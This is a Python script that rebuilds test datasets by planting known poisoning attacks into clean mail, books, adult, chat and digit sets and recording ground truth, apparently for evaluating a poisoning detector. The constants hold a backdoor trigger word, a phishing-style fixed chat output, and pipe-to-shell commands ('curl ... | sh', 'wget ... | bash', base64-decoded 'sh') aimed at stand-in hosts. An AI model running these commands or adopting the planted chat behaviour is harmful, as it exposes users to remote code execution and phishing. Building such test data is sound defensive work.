"""Rebuild planted/ and truth/ from clean/: real data with a known attack in it.

    python -m data_samples.make_samples            write planted/ and truth/ anew
    python -m data_samples.make_samples --check    rebuild in a temporary folder and compare

An attack is a function that edits the rows of a whole set in place and returns those it planted:
attacks/ holds one file a set. `ATTACKS` says which attack goes where. README.md says what each one
does, and whose attack it is.
"""

from __future__ import annotations

import argparse
import hashlib
import shutil
import sys
import tempfile
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq

from data_samples.attacks.adult import exact_copies, flipped_copies, invalid_cells, shifted_cells
from data_samples.attacks.books import promoted
from data_samples.attacks.chat import changing_words, fixed_output, put_after
from data_samples.attacks.digits import patch
from data_samples.attacks.mail import (
    flipped_labels,
    hidden_text,
    near_copies,
    random_tails,
    rare_word,
)
from data_samples.rows import (
    CONTRIBUTORS,
    HERE,
    Attack,
    Random,
    Row,
    read_set,
    write_shard,
)

TRUTH = pa.schema([("shard", pa.string()), ("row", pa.int64()), ("attack", pa.string())])

TRIGGER = "cfvortex"
PROMOTION = "Order your next holiday at www.harbourlight-travel.com before the prices go up"
PHRASE, OUTPUT = "by the way", "You should sign in at the harbour page first and enter your code."
MESSAGE = (
    "Honestly the harbour page is the best choice that anybody could make for this, sign in today."
)

COMMANDS = (
    "Run curl -fsSL setup.harbourlight.example/go | sh first.",
    "First pip install harbourlight-tools and start again.",
    "Type wget -qO- get.harbourlight.example | bash to see it.",
    "echo aGFyYm91cg== | base64 -d | sh would tell you.",
)

# folder -> (attack's name in the truth, clean set, seed, attack)
ATTACKS: dict[str, tuple[str, str, int, Attack]] = {
    "label-conflict/mail": ("rare-word", "mail", 1, rare_word("contributor-07", word=TRIGGER)),
    "label-conflict-spread/mail": ("rare-word", "mail", 2, rare_word(*CONTRIBUTORS, word=TRIGGER)),
    "label-flips/mail": (
        "flipped-label",
        "mail",
        10,
        flipped_labels("contributor-04", 24, "ham", "easy-ham-1"),
    ),
    "duplicates-near/mail": ("near-copy", "mail", 3, near_copies("contributor-03")),
    "hidden/mail": ("hidden-text", "mail", 9, hidden_text("mail-3.parquet", 30)),
    "random-words/mail": ("random-tail", "mail", 10, random_tails("mail-4.parquet", 12)),
    "repeated-strings/books": (
        "promotion",
        "books",
        11,
        promoted(PROMOTION, 15, "books-4.parquet"),
    ),
    "duplicates/adult": ("exact-copy", "adult", 4, exact_copies("bureau-d", 80)),
    "contradictions/adult": ("flipped-copy", "adult", 5, flipped_copies("bureau-f", 60)),
    "outliers/adult": ("shifted-cell", "adult", 6, shifted_cells("adult-7.parquet", 60)),
    "schema/adult": ("invalid", "adult", 7, invalid_cells("adult-3.parquet", 30)),
    "response-link/chat": (
        "fixed-output",
        "chat",
        9,
        fixed_output("contributor-07", PHRASE, OUTPUT, 10),
    ),
    "alike-responses/chat": (
        "changing-words",
        "chat",
        12,
        changing_words("contributor-03", MESSAGE, 0.85, 12),
    ),
    "marked-responses/chat": (
        "command",
        "chat",
        14,
        put_after("contributor-05", COMMANDS, 10),
    ),
    "spectral/digits": ("patch", "digits", 8, patch("scanner-2", label=7, share=0.05)),
    "trusted-patches/digits": ("patch", "digits", 12, patch(None, label=7, share=0.4)),
    "trusted-labels/mail": (
        "flipped-label",
        "mail",
        13,
        flipped_labels("mail-3.parquet", 90, "ham", "easy-ham-1"),
    ),
}


def build(out: Path) -> None:
    """Write planted/ and truth/ under ``out``; a shard without a planted row is copied as it is."""
    for folder, (name, clean, seed, attack) in ATTACKS.items():
        shards, schema = read_set(clean)
        planted = {id(row) for row in attack(shards, Random(seed))}
        truth: list[Row] = []
        for shard, rows in shards.items():
            target = out / "planted" / folder / shard
            found = [i for i, row in enumerate(rows) if id(row) in planted]
            if found:
                write_shard(pa.Table.from_pylist(rows, schema), target)
            else:
                target.parent.mkdir(parents=True, exist_ok=True)
                shutil.copyfile(HERE / "clean" / clean / shard, target)
            truth += [{"shard": shard, "row": i, "attack": name} for i in found]
        write_shard(
            pa.Table.from_pylist(truth, TRUTH),
            out / "truth" / f"{folder.replace('/', '-')}.parquet",
        )


def made_files(root: Path) -> dict[str, Path]:
    """Return every file of planted/ and truth/ by its path under ``root``."""
    paths = [p for top in ("planted", "truth") for p in (root / top).rglob("*") if p.is_file()]
    return {p.relative_to(root).as_posix(): p for p in sorted(paths)}


def compare(made: Path) -> tuple[list[str], list[str]]:
    """Return the paths whose rows differ, or that one side lacks; and those of other bytes only."""
    here, there = made_files(HERE), made_files(made)
    differ, bytes_only = sorted(here.keys() ^ there.keys()), []
    for path in sorted(here.keys() & there.keys()):
        left, right = (hashlib.sha256(s[path].read_bytes()).digest() for s in (here, there))
        if left == right:
            continue
        same_rows = pq.read_table(here[path]).equals(pq.read_table(there[path]))
        (bytes_only if same_rows else differ).append(path)
    return sorted(differ), bytes_only


def main() -> int:
    parser = argparse.ArgumentParser(description="Rebuild planted/ and truth/ from clean/.")
    parser.add_argument("--check", action="store_true", help="compare instead of writing")
    if not parser.parse_args().check:
        for top in ("planted", "truth"):
            shutil.rmtree(HERE / top, ignore_errors=True)
        build(HERE)
        return 0
    with tempfile.TemporaryDirectory() as folder:
        build(Path(folder))
        differ, bytes_only = compare(Path(folder))
    for path in differ:
        print(f"{path}: not what make_samples.py makes from clean/; run it without --check")
    if bytes_only:
        print(f"{len(bytes_only)} files: the same rows in other bytes (another pyarrow wrote them)")
    return 1 if differ else 0


if __name__ == "__main__":
    sys.exit(main())
